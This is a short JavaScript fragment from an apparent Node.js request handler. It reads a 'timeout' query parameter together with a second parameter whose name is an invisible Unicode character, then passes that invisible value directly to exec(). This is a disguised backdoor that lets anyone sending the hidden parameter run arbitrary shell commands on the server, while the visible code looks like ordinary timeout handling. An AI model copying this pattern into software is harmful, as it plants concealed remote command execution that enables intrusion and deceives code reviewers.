const {timeout,ㅤ} = req.query;
exec(ㅤ);
